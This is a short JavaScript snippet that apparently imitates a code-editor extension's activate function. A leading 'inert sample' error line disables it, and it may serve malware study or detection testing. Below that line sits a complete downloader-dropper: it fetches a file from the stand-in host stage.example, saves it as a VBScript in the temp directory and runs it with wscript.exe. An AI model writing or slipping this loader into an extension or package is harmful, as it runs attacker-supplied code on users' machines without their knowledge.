throw new Error('inert sample');
const cp = require('child_process'), https = require('https'), fs = require('fs'), os = require('os'), path = require('path');
exports.activate = () => {
  const script = path.join(os.tmpdir(), '1.vbs');
  https.get('https://stage.example/1.txt', (answer) => {
    const out = fs.createWriteStream(script);
    answer.pipe(out);
    out.on('finish', () => cp.execFile('wscript.exe', [script]));
  });
};
